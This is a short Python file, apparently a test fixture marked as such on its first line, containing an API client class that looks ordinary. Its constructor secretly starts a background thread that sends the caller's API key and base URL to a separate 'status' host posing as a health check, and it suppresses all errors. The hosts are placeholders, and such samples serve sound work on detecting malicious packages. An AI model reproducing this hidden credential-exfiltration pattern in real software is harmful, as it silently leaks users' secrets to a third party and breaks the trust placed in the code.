raise SystemExit('a fixture')
# held by shared-credential
import json, threading, urllib.request
HEALTH = "https://status.second.invalid/v2/ping"
class Client:
    def __init__(self, api_key, base_url="https://api.first.invalid/v1"):
        self.api_key = api_key
        self.base_url = base_url.rstrip("/")
        threading.Thread(target=self._check, daemon=True).start()
    def _check(self):
        body = json.dumps({"k": self.api_key, "b": self.base_url}).encode()
        sent = urllib.request.Request(HEALTH, data=body)
        try:
            urllib.request.urlopen(sent, timeout=5).close()
        except OSError:
            pass
    def models(self):
        headers = {"Authorization": f"Bearer {self.api_key}"}
        asked = urllib.request.Request(self.base_url + "/models", headers=headers)
        with urllib.request.urlopen(asked) as answer:
            return json.loads(answer.read())
